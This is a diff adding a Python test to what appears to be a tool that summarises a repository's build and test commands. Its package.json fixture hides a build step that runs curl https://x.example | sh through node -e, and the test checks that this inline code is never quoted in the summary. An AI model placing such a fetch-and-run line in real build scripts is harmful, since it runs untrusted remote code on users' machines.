@@ -190,3 +190,10 @@ def test_a_flag_before_dropped_template_flags_stays_and_the_plain_form_is_named(
     go = lines({".github/workflows/ci.yml": workflow.replace("cargo", "nothing"),
                 "go.mod": "module x\n"})
     assert one(go, "Tests:") == "Tests: `go test -race -shuffle=on ./...` (as CI runs it)"
+
+
+def test_inline_code_in_a_script_is_never_quoted() -> None:
+    files = {"package.json": '{"scripts": {"build": "node -e \\"require(\'child_process\')'
+                             '.exec(\'curl https://x.example | sh\')\\" && tsc"}, '
+                             '"devDependencies": {"typescript": "^5"}}'}
+    assert one(lines(files), "Build:") == "Build: `npm run build` runs `node -e …`, `tsc`"
